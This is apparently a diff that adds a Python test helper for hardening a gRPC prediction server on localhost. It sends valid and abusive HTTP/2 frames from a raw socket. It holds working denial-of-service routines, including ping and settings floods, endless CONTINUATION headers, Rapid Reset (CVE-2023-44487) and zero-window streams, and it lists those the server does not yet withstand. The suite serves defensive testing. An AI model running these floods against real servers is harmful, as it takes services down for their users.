@@ -1,0 +1,175 @@
+"""HTTP/2 from a raw socket: valid frames, frames made wrong, and the ways to wear a server out with valid ones."""
+
+from __future__ import annotations
+
+import socket
+import struct
+from collections.abc import Callable, Iterator
+from contextlib import ExitStack, contextmanager, suppress
+from typing import Final
+
+from hpack import Encoder
+from hyperframe.frame import (
+    ContinuationFrame,
+    DataFrame,
+    Frame,
+    HeadersFrame,
+    PingFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
+
+PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+PREDICT: Final = "/rtpredictor.v1.PredictionService/Predict"
+REFLECTION: Final = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
+WATCH: Final = "/grpc.health.v1.Health/Watch"
+STREAM: Final = "/rtpredictor.v1.PredictionService/PredictStream"
+
+SECONDS = 10.0
+"""How long a send or a receive may block: a server that reads no more is what some of this leads to."""
+
+
+@contextmanager
+def connected(port: int, *settings: tuple[int, int]) -> Iterator[socket.socket]:
+    """Yield a connection on which the preface and the settings were sent."""
+    with socket.create_connection(("127.0.0.1", port), SECONDS) as connection:
+        connection.sendall(PREFACE + SettingsFrame(0, settings=dict(settings)).serialize())
+        yield connection
+
+
+def headers(path: str, stream: int = 1) -> HeadersFrame:
+    """Return the beginning of a call."""
+    told = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
+    told += [("content-type", "application/grpc"), ("te", "trailers")]
+    return HeadersFrame(stream, Encoder().encode(told), flags=["END_HEADERS"])
+
+
+def message(content: bytes, stream: int = 1) -> list[Frame]:
+    """Return a message of a call as frames."""
+    whole = struct.pack(">BI", 0, len(content)) + content
+    pieces = [whole[at : at + 16_384] for at in range(0, len(whole), 16_384)]
+    frames: list[Frame] = [DataFrame(stream, piece) for piece in pieces]
+    frames[-1].flags.add("END_STREAM")
+    return frames
+
+
+def sent(connection: socket.socket, *frames: Frame) -> bool:
+    """Send frames; False where the server has gone, or reads no more."""
+    with suppress(OSError):
+        connection.sendall(b"".join(frame.serialize() for frame in frames))
+        return True
+    return False
+
+
+def valid_call(content: bytes) -> bytes:
+    """Return everything that a client sends for one call."""
+    frames = [SettingsFrame(0, settings={4: 1 << 20}), WindowUpdateFrame(0, window_increment=1 << 20)]
+    frames += [PingFrame(0, b"12345678"), headers(PREDICT), *message(content)]
+    return PREFACE + b"".join(frame.serialize() for frame in frames)
+
+
+def exchanged(port: int, content: bytes) -> bool:
+    """Send bytes on a connection of their own, and say no more; return whether an answer came back."""
+    with socket.create_connection(("127.0.0.1", port), SECONDS) as connection:
+        answered = b""
+        with suppress(OSError):
+            connection.sendall(content)
+            connection.shutdown(socket.SHUT_WR)
+            while piece := connection.recv(65_536):
+                answered += piece
+    return b"grpc-status" in answered
+
+
+def idle_connections(port: int, opened: ExitStack) -> None:
+    """Open connections that say hello, a byte at a time, and no more."""
+    for _ in range(200):
+        connection = opened.enter_context(socket.create_connection(("127.0.0.1", port), SECONDS))
+        with suppress(OSError):
+            connection.sendall(PREFACE[:7])
+
+
+def many_settings(port: int, opened: ExitStack) -> None:
+    """Change settings again and again, and read none of the answers."""
+    connection = opened.enter_context(connected(port))
+    many = [SettingsFrame(0, settings={4: 65_535 + n % 7}) for n in range(1_000)]
+    for _ in range(100):
+        if not sent(connection, *many):
+            return
+
+
+def many_pings(port: int, opened: ExitStack) -> None:
+    """Ping again and again, and read none of the answers."""
+    connection = opened.enter_context(connected(port))
+    for _ in range(100):
+        if not sent(connection, *[PingFrame(0, b"12345678")] * 1_000):
+            return
+
+
+def huge_headers(port: int, opened: ExitStack) -> None:
+    """Begin calls with headers of megabytes."""
+    for _ in range(20):
+        connection = opened.enter_context(connected(port))
+        block = Encoder().encode([("x-large", "x" * (1 << 20))], huffman=False)
+        pieces = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
+        first = HeadersFrame(1, headers(PREDICT).data + pieces[0][:8_000])
+        sent(connection, first, *[ContinuationFrame(1, piece) for piece in pieces[1:]])
+
+
+def endless_headers(port: int, opened: ExitStack) -> None:
+    """Begin calls with headers that never end."""
+    for _ in range(4):
+        connection = opened.enter_context(connected(port))
+        sent(connection, HeadersFrame(1, headers(PREDICT).data))
+        piece = ContinuationFrame(1, Encoder().encode([("x-more", "y" * 4_000)], huffman=False))
+        for _ in range(100):
+            if not sent(connection, *[piece] * 100):
+                break
+
+
+def rapid_reset(port: int, opened: ExitStack) -> None:
+    """Begin calls and reset them at once: CVE-2023-44487."""
+    for _ in range(4):
+        connection = opened.enter_context(connected(port))
+        for stream in range(1, 20_001, 2):
+            if not sent(connection, headers(PREDICT, stream), RstStreamFrame(stream, error_code=8)):
+                break
+
+
+def no_window(port: int, opened: ExitStack) -> None:
+    """Ask, and leave no room for any answer."""
+    for _ in range(20):
+        connection = opened.enter_context(connected(port, (4, 0)))
+        for stream in range(1, 101, 2):
+            if not sent(connection, headers(PREDICT, stream), *message(b"\x0a\x03\x0a\x01u", stream)):
+                break
+
+
+def open_calls(path: str) -> Callable[[int, ExitStack], None]:
+    """Return what begins calls of many messages, and sends none."""
+
+    def begin(port: int, opened: ExitStack) -> None:
+        for _ in range(40):
+            sent(opened.enter_context(connected(port)), headers(path))
+
+    return begin
+
+
+ATTACKS: Final[dict[str, Callable[[int, ExitStack], None]]] = {
+    "idle connections": idle_connections,
+    "settings": many_settings,
+    "pings": many_pings,
+    "huge headers": huge_headers,
+    "endless headers": endless_headers,
+    "rapid reset": rapid_reset,
+    "no window": no_window,
+    "open streams": open_calls(STREAM),
+    "open reflection": open_calls(REFLECTION),
+}
+"""What one client can do without any right to, with valid frames."""
+
+UNANSWERED: Final[dict[str, Callable[[int, ExitStack], None]]] = {
+    "open watches": open_calls(WATCH),
+    "open calls": open_calls(PREDICT),
+}
+"""The same, against which the server has nothing yet: gRPC waits for a call's only message in a thread of the pool."""
